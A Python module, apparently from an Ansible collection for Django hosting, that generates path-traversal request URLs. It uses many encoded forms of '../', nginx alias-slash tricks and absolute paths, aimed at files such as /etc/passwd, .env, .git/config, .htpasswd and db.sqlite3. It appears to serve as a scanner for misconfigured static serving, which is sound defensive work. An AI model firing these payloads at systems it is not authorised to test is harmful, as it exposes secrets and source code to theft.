# Copyright (c) WebOps contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The ways in which a request can try to climb out of a folder. Pure functions; what they return is sent as it is."""

from __future__ import annotations

import typing as t

from ansible_collections.webops.django.plugins.module_utils.web_urls import path_to_url

_STEPS = (
    "../",
    "%2e%2e/",
    ".%2e/",
    "..%2f",
    "%2e%2e%2f",
    # Decoded twice: once by a proxy, once behind it.
    "%252e%252e/",
    "..%252f",
    # A separator on Windows, and for browsers.
    "..\\",
    "..%5c",
    "%2e%2e%5c",
    # A path parameter (RFC 3986 3.3), which some servers cut off only after they have looked for dot segments.
    "..;/",
    # Overlong UTF-8 of '.' and '/', which RFC 3629 forbids.
    "%c0%ae%c0%ae/",
    "..%c0%af",
)
"""One step upwards, as it may be written."""
_WITHOUT_SLASH = ("../", "%2e%2e/", "..%2f")
"""Behind the folder's name without its slash: ``/static../``, which a ``location /static`` with ``alias …/;`` passes on as ``…/../``."""
NO_SUCH_FOLDER = "webops-no-such-folder"
DEEP = 12
"""Steps that lead to the file system's root from wherever a tree lies."""


def traversals(prefix: str, path: bytes, climb: int, folder: str = NO_SUCH_FOLDER) -> list[str]:
    """Return the targets that may lead to a file above a folder.

    :param prefix: percent-encoded path of the folder's URL, with a slash at its end.
    :param path: relative path of the file, seen from the folder that is reached.
    :param climb: how many folders that is above.
    :param folder: percent-encoded name of a folder that exists in the folder, if one is known.
    """
    name = path_to_url(path)
    targets = [prefix + step * climb + name for step in _STEPS]
    if climb == 1 and prefix != "/":
        targets = [prefix[:-1] + step + name for step in _WITHOUT_SLASH] + targets
    targets += [f"{prefix}{folder}/{step * (climb + 1)}{name}" for step in ("../", "..%2f", "..\\")]
    targets += [f"{prefix}{start}{'../' * climb}{name}" for start in ("/", ";/", "./")]
    return targets


def absolute_paths(prefix: str, file: bytes) -> list[str]:
    """Return the targets with an absolute path in the place of a relative one, which joining paths carelessly takes as it is."""
    name = path_to_url(file)
    return [f"{prefix}{name}", f"{prefix}{name.replace('/', '%2f')}", f"{prefix}/{name}"]


def generic(prefix: str) -> list[tuple[str, bytes]]:
    """Return targets and the names of the files that they may lead to, where nothing is known about the host."""
    names = (b"manage.py", b".env", b".git/config")
    return [*((target, name) for name in names for target in traversals(prefix, name, 1)), *passwd(prefix)]


def passwd(prefix: str) -> list[tuple[str, bytes]]:
    """Return targets that lead to a file that every host has."""
    deep = traversals(prefix, b"etc/passwd", DEEP)
    return [(target, b"etc/passwd") for target in (*deep, *absolute_paths(prefix, b"/etc/passwd"))]


def inside(prefix: str) -> list[tuple[str, bytes]]:
    """Return targets of files that lie in many folders by mistake: dot files, and sources where a project's own folder is served."""
    names: t.Sequence[bytes] = (
        *(b".env", b".git/config", b".git/HEAD", b".htaccess", b".htpasswd"),
        *(b"manage.py", b"settings.py", b"wsgi.py", b"urls.py", b"__init__.pyc", b"db.sqlite3"),
    )
    return [(prefix + path_to_url(name), name) for name in names]
